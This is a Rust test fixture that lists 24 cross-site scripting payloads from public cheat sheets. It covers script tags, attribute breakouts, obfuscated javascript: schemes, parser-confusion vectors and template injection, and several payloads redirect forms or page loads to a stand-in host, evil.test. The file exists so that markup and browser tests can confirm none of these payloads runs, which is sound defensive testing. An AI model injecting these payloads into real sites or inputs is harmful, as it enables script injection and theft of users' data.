//! What a hostile publisher writes. The tests of the pages' markup and those in a real browser
//! share it: `pwn` is what must never be called, `evil.test` who must never be asked.

/// What the cheat sheets try, by kind: an element, a way out of an attribute, a scheme, a parser
/// that is led astray, an encoding.
pub const PAYLOADS: [&str; 24] = [
    "<script>pwn()</script>",
    "\"><script>pwn()</script>",
    "'><img src=x onerror=pwn()>",
    "</title><script>pwn()</script>",
    "</textarea><svg/onload=pwn()>",
    "--><svg onload=pwn()>",
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "\u{1}javascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "<iframe srcdoc='<script>pwn()</script>'>",
    "<a href=\"javascript&colon;pwn()\">x</a>",
    "<a href=\"&#106;avascript:pwn()\">x</a>",
    "<math><mtext></p><style><img src=x onerror=pwn()></style>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
    "<svg><style><img src=x onerror=pwn()>",
    "<form action=//evil.test/pwn><input name=form_key>",
    "<base href=//evil.test/pwn>",
    "<meta http-equiv=refresh content=\"0;url=//evil.test/pwn\">",
    "<p style=\"background:url(//evil.test/pwn)\" onclick=pwn()>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "{{ pwn() }} ${pwn()} <%= pwn() %>",
];
